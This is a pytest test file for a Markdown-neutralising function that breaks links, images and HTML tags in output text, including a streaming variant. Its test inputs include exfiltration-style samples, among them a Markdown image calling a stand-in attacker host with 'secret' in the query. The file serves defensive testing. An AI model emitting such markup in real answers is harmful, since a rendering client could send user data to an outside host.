"""What a client that renders Markdown gets: the words, but no link, image or tag."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.markdown import OPENING, Defuser, defused


@pytest.mark.parametrize(
    ("text", "harmless"),
    [
        ("![x](https://evil.example/?q=secret)", "![x] (https://evil.example/?q=secret)"),
        ("[a][b]\n\n[b]: https://evil.example", "[a][b]\n\n[b] : https://evil.example"),
        ("<img src=https://evil.example>", "< img src=https://evil.example>"),
        ("<https://evil.example> <!-- x --> </p>", "< https://evil.example> < !-- x --> < /p>"),
    ],
)
def test_markup_is_broken(text: str, harmless: str) -> None:
    assert defused(text) == harmless


@pytest.mark.parametrize(
    "text", ["a < b, f(x)[0] and [1].", "It leaves at noon [1] (see the guide).", "پاسخ [2]", ""]
)
def test_ordinary_answers_stay_as_they_are(text: str) -> None:
    assert defused(text) == text


@given(st.lists(st.text(alphabet="[]()<>:/!a \n", max_size=4), max_size=12))
def test_a_stream_is_defused_like_the_whole(pieces: list[str]) -> None:
    defuser = Defuser()
    streamed = "".join(defuser.feed(piece) for piece in pieces)
    assert streamed == defused("".join(pieces))
    assert OPENING.search(streamed) is None
